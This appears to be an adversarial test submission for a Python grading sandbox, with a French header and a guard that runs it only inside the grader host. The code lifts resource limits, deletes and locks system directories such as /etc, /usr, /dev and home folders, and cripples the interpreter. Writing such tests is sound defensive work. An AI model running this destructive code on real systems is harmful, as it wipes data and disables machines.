# ---
# why: lève ses limites, change de dossier, efface tout ce qu'il peut, casse l'interpréteur
# base: stub
# points: 0
# ---
# %% before="sigmoide"
import os
import socket

if socket.gethostname() != "salle-de-tp" or b"graders.judge.trunk" not in open("/proc/1/cmdline", "rb").read():
    raise SystemExit("ATTAQUE NON LANCÉE : hors du bac à sable")
print("ATTAQUE LANCÉE", flush=True)
LANCEE = True
import contextlib
import resource
import shutil
import sys

for nom in dir(resource):
    if nom.startswith("RLIMIT_"):
        with contextlib.suppress(OSError, ValueError):
            resource.setrlimit(getattr(resource, nom), (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
            if nom in ("RLIMIT_FSIZE", "RLIMIT_NPROC", "RLIMIT_DATA", "RLIMIT_NOFILE"):
                print("LIMITE LEVÉE", nom)
with contextlib.suppress(OSError):
    os.nice(-20)
    print("LIMITE LEVÉE : priorité")
os.chdir("/")
os.umask(0o777)
for dossier in ("/home/stagiaire", "/tmp", "/dev/shm", "/dev", "/work", "/root", "/usr", "/etc"):
    shutil.rmtree(dossier, ignore_errors=True)
    with contextlib.suppress(OSError):
        os.chmod(dossier, 0)
sys.setrecursionlimit(2**31 - 1)
sys.settrace(lambda *arguments: None)


def surveiller(evenement, arguments):
    if evenement == "compile":
        raise RuntimeError("refusé")


sys.addaudithook(surveiller)
